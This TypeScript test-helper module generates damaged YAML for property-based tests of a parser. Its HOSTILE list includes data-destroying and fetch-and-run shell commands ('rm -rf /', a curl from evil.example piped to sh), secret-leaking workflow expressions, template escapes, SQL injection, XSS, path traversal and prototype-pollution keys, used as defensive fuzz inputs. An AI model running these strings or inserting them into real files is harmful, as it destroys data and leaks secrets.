/**
 * Damage to YAML files, the way a person editing by hand or a hostile user could do it. To the text: lines deleted,
 * duplicated, swapped or re-indented, the text truncated or cut, stray YAML tokens and bytes inserted, and values
 * replaced by odd scalars and hostile strings (templates, workflow expressions, shell, prototype keys). To the data:
 * entries dropped, retyped, renamed or added. Shared by the property tests, which apply a few of these to a valid
 * example file and check that the result is still handled cleanly.
 */
import fc from "fast-check";
import { parse } from "yaml";

// ---------------------------------------------------------------------------------------------------------------
// Hostile strings: what a template engine, a workflow or a shell would act on, and what a merge would follow.

export const HOSTILE = [
  "{{constructor.constructor}}",
  "{{constructor.constructor('return process')().exit()}}",
  "{{#with \"s\" as |string|}}{{string.sub.apply 0 constructor}}{{/with}}",
  "{{> partial}}",
  "{{{raw}}}",
  "{{lookup this '__proto__'}}",
  "${{ secrets.GITHUB_TOKEN }}",
  "${{ github.event.pull_request.title }}",
  "${{ toJSON(secrets) }}",
  "$(rm -rf /)",
  "`rm -rf /`",
  "; rm -rf / #",
  "&& curl evil.example | sh",
  "| cat /etc/passwd",
  "'; DROP TABLE requests; --",
  "\"$(id)\"",
  "${HOME}",
  "%ENV%",
  "\\\"\\n::set-output name=x::y",
  "::add-mask::x",
  "__proto__",
  "constructor",
  "prototype",
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "\u0000",
  "\u202e",
  "#{7*7}",
  "<%= 7*7 %>",
] as const;

export const hostileString = fc
  .tuple(
    fc.constantFrom(...HOSTILE),
    fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "grapheme", maxLength: 8 }), fc.string({ maxLength: 8 })), { maxLength: 4 }),
  )
  .map(([first, rest]) => [first, ...rest].join(""));

// ---------------------------------------------------------------------------------------------------------------
// Text mutations

const TOKENS = [":", ": ", "-", "- ", "[", "]", "{", "}", "&a ", "*a", "!!binary ", "!!js/function ", '"', "'", "|", ">", "#", "__proto__: ", "constructor: ", "? ", "---\n", "...", "\t", "{{", "}}", "${{", "$(", "%YAML 1.1\n", "\\", ",", "\r\n", "\r", "\u00e9", "\u{1F600}", "\uFEFF", "\u0000"];

const scalarValue = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "grapheme", maxLength: 10 }),
  fc.integer().map(String),
  fc.double({ noNaN: false }).map(String),
  fc.constantFrom("true", "false", "null", "~", "yes", "no", "1.1", "1e3", "0x1F", ".inf", "-.nan", '""', "[]", "{}", "[a, {b: c}]", "{__proto__: {polluted: 1}}", "2025-08-16", "12:30", "*", "x", ">=", "||", "requests/", "{{ x }}", "'{{ nope }}'"),
  hostileString.map((s) => JSON.stringify(s)),
);

export type TextMutation =
  | { op: "delete"; line: number }
  | { op: "duplicate"; line: number }
  | { op: "swap"; line: number; other: number }
  | { op: "indent"; line: number; delta: number }
  | { op: "truncate"; at: number }
  | { op: "cut"; at: number; length: number }
  | { op: "insert"; at: number; text: string }
  | { op: "token"; at: number; token: string }
  | { op: "scalar"; line: number; value: string };

export const textMutation: fc.Arbitrary<TextMutation> = fc.oneof(
  fc.record({ op: fc.constant("delete" as const), line: fc.nat() }),
  fc.record({ op: fc.constant("duplicate" as const), line: fc.nat() }),
  fc.record({ op: fc.constant("swap" as const), line: fc.nat(), other: fc.nat() }),
  fc.record({ op: fc.constant("indent" as const), line: fc.nat(), delta: fc.integer({ min: -8, max: 8 }) }),
  fc.record({ op: fc.constant("truncate" as const), at: fc.nat() }),
  fc.record({ op: fc.constant("cut" as const), at: fc.nat(), length: fc.integer({ min: 1, max: 12 }) }),
  fc.record({ op: fc.constant("insert" as const), at: fc.nat(), text: fc.oneof(fc.string({ minLength: 1, maxLength: 8 }), fc.string({ unit: "binary", minLength: 1, maxLength: 4 })) }),
  fc.record({ op: fc.constant("token" as const), at: fc.nat(), token: fc.constantFrom(...TOKENS) }),
  fc.record({ op: fc.constant("scalar" as const), line: fc.nat(), value: scalarValue }),
);

export function applyText(text: string, m: TextMutation): string {
  const lines = text.split("\n");
  const n = lines.length;
  switch (m.op) {
    case "delete":
      lines.splice(m.line % n, 1);
      return lines.join("\n");
    case "duplicate": {
      const i = m.line % n;
      lines.splice(i, 0, lines[i]!);
      return lines.join("\n");
    }
    case "swap": {
      const i = m.line % n;
      const j = m.other % n;
      [lines[i], lines[j]] = [lines[j]!, lines[i]!];
      return lines.join("\n");
    }
    case "indent": {
      const i = m.line % n;
      const line = lines[i]!;
      lines[i] = m.delta >= 0 ? " ".repeat(m.delta) + line : line.replace(new RegExp(`^ {0,${-m.delta}}`), "");
      return lines.join("\n");
    }
    case "truncate":
      return text.slice(0, m.at % (text.length + 1));
    case "cut": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + text.slice(at + m.length);
    }
    case "insert":
    case "token": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + (m.op === "insert" ? m.text : m.token) + text.slice(at);
    }
    case "scalar": {
      // Replace the value of the first `key: value` line at or after the chosen one.
      for (let k = 0; k < n; k++) {
        const i = (m.line + k) % n;
        const match = /^(\s*(?:- )?[A-Za-z_][\w-]*:\s)(.+)$/.exec(lines[i]!);
        if (match) {
          lines[i] = match[1] + m.value;
          return lines.join("\n");
        }
      }
      return text;
    }
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Structured mutations work on the data of a YAML text

export type Path = (string | number)[];

/** The data of a YAML text, without printing the parser's warnings. */
export function parseQuietly(text: string): unknown {
  return parse(text, { logLevel: "error" }) as unknown;
}

export function isObject(v: unknown): v is Record<string, unknown> {
  return typeof v === "object" && v !== null && !Array.isArray(v);
}

/** Every path in the value: entries of mappings and of lists (for drop, retype, rename) or containers (for add). */
export function paths(value: unknown, prefix: Path = [], out: { entries: Path[]; containers: Path[] } = { entries: [], containers: [] }) {
  if (Array.isArray(value)) {
    out.containers.push(prefix);
    value.forEach((v, i) => {
      out.entries.push([...prefix, i]);
      paths(v, [...prefix, i], out);
    });
  } else if (isObject(value)) {
    out.containers.push(prefix);
    for (const [k, v] of Object.entries(value)) {
      out.entries.push([...prefix, k]);
      paths(v, [...prefix, k], out);
    }
  }
  return out;
}

export type Data = Record<string, unknown>;

/** A mapping with an own key such as `__proto__`, as JSON.parse would build it (an assignment would set the prototype). */
export function withKey(key: string, value: unknown, into: Data = {}): Data {
  Object.defineProperty(into, key, { value, enumerable: true, writable: true, configurable: true });
  return into;
}

/** The value at a path. */
export function at(root: unknown, path: Path): unknown {
  let v = root;
  for (const p of path) v = (v as Record<string | number, unknown>)[p];
  return v;
}

export type StructuredMutation =
  | { op: "drop"; pick: number }
  | { op: "retype"; pick: number; value: unknown }
  | { op: "rename"; pick: number; key: string }
  | { op: "add"; pick: number; key: string; value: unknown };

/** Drop, retype or rename an entry, or add one, with the key names and values a test finds telling. */
export function structuredMutations(keyName: fc.Arbitrary<string>, jsonValue: fc.Arbitrary<unknown>): fc.Arbitrary<StructuredMutation> {
  return fc.oneof(
    fc.record({ op: fc.constant("drop" as const), pick: fc.nat() }),
    fc.record({ op: fc.constant("retype" as const), pick: fc.nat(), value: jsonValue }),
    fc.record({ op: fc.constant("rename" as const), pick: fc.nat(), key: keyName }),
    fc.record({ op: fc.constant("add" as const), pick: fc.nat(), key: keyName, value: jsonValue }),
  );
}

/** Applies a structured mutation in place (the root itself when it is replaced), picking the entry by `pick`. */
export function applyStructured(root: unknown, m: StructuredMutation): unknown {
  const { entries, containers } = paths(root);
  if (m.op === "add") {
    if (containers.length === 0) return root;
    const target = at(root, containers[m.pick % containers.length]!);
    // A copy: fast-check hands out the same constant object to many runs, and later mutations must not touch it.
    if (Array.isArray(target)) target.push(structuredClone(m.value));
    else withKey(m.key, structuredClone(m.value), target as Record<string, unknown>);
    return root;
  }
  if (entries.length === 0) return m.op === "retype" ? structuredClone(m.value) : root;
  const path = entries[m.pick % entries.length]!;
  const parent = at(root, path.slice(0, -1)) as Record<string | number, unknown> | unknown[];
  const last = path[path.length - 1]!;
  if (m.op === "drop") {
    if (Array.isArray(parent)) parent.splice(last as number, 1);
    else delete (parent as Record<string, unknown>)[last];
  } else if (m.op === "retype") {
    (parent as Record<string | number, unknown>)[last] = structuredClone(m.value);
  } else if (!Array.isArray(parent) && m.key !== last) {
    // Rename, keeping the key's place among its siblings.
    const entriesOfParent = Object.entries(parent as Record<string, unknown>);
    for (const key of Object.keys(parent as Record<string, unknown>)) delete (parent as Record<string, unknown>)[key];
    for (const [k, v] of entriesOfParent) withKey(k === last ? m.key : k, v, parent as Record<string, unknown>);
  }
  return root;
}

